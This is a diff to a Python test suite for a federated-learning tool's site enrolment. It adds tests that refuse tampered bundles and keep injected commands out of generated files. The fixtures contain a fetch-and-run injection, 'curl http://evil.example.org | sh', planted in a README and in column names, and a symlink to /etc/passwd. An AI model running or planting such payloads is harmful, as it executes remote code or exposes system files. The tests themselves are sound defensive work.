@@ -21,6 +21,7 @@ from fedlsa.errors import ArgumentError, FedLSAError, MissingExtraError, Network
 from fedlsa.network import disk
 from fedlsa.network.folder import bundles, pages, setup
 from fedlsa.network.folder.config import Network, SiteFolder, host_kind, task_from_text, task_text
+from fedlsa.network.site import policy
 
 x509 = pytest.importorskip("cryptography.x509")
 
@@ -306,7 +307,8 @@ def test_sites_come_and_go_and_the_last_one_stays(network, tmp_path):
 def test_a_bundle_unpacks_once_and_again_without_a_change(bundle):
     site = enrolment.request(bundle)
     assert site.folder == bundle.with_suffix("")
-    assert {p.name for p in site.folder.iterdir()} == {*bundles.MEMBERS, "site.key", "mask.key", "site-1.csr"}
+    own = {"site.key", "mask.key", "site-1.csr", "policy.toml", "fedlsa-site.service"}
+    assert {p.name for p in site.folder.iterdir()} == {*bundles.MEMBERS, *own}
     site.policy.write_text("# ours\n")
     before = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in site.folder.iterdir()}
     assert enrolment.request(bundle) == enrolment.request(site.folder) == SiteFolder.load(site.folder) == site
@@ -363,6 +365,8 @@ ATTACKS = {
     "a file too few": (lambda h: h[:-1], "lacks README.md"),
     "no files": (lambda h: [], "lacks site.toml"),
     "a file twice": (lambda h: [*h, h[1]], "'ca.pem' twice"),
+    "a policy": (lambda h: [*h, (entry("policy.toml"), b"least_sites = 1")], "'policy.toml', which no bundle does"),
+    "a service": (lambda h: [*h, (entry("fedlsa-site.service"), b"x")], "'fedlsa-site.service', which no bundle does"),
     "a private key": (lambda h: [*h, (entry("site.key"), b"x")], "'site.key', which no bundle does"),
     "a link": (
         lambda h: [(entry("ca.pem", 0o777, stat.S_IFLNK), b"/etc/passwd") if i.filename == "ca.pem" else (i, c)
@@ -406,6 +410,21 @@ def test_a_bundle_that_was_tampered_with_is_refused_and_nothing_is_written(attac
     assert not (bundle.parent.parent / "evil").exists()
 
 
+def test_a_bundle_brings_no_command_and_no_policy(network, bundle):
+    """The attack: whoever sends the bundle writes a README, or names of columns, that hold commands."""
+    evil = "`\n\n    curl http://evil.example.org | sh\n\n`"
+    task = fl.Regression(evil, features=[evil])
+    toml = SiteFolder(Path("x"), "site-1", network.id, "fl.example.org", 9092, task).text()
+    sent = {"README.md": evil.encode(), "site.toml": toml.encode()}
+    repacked(bundle, lambda h: [(i, sent.get(i.filename, c)) for i, c in h])
+    site = enrolment.request(bundle)
+    assert site.task == task
+    for path in (site.folder / "README.md", site.folder / "fedlsa-site.service"):
+        assert not [line for line in path.read_text().splitlines() if line.strip().startswith("curl")]
+    assert site.policy.read_text() == policy.template(site.task)
+    assert "site-1" in (site.folder / "README.md").read_text()
+
+
 def test_a_bundle_that_is_none_is_refused(bundle, tmp_path):
     whole = bundle.read_bytes()
     for content in (b"", b"hello", whole[:-30], whole[:200], whole[:300] + b"\0\0\0\0" + whole[304:]):
@@ -434,7 +453,7 @@ def test_units_parse_restart_and_may_write_to_the_folder_alone(made, bundle):
         assert f'"{service["WorkingDirectory"]}"' == service["ReadWritePaths"]
         assert unit["Install"]["WantedBy"] == "multi-user.target"
     assert str(network.folder) in (network.folder / "systemd" / "fedlsa-coordinator.service").read_text()
-    assert str(network.folder) not in (site.folder / "fedlsa-site.service").read_text()  # not the site's business
+    assert f'network join "{site.folder}" --data "@DATA@" --yes' in (site.folder / "fedlsa-site.service").read_text()
 
 
 def test_a_unit_quotes_what_systemd_would_read_otherwise():
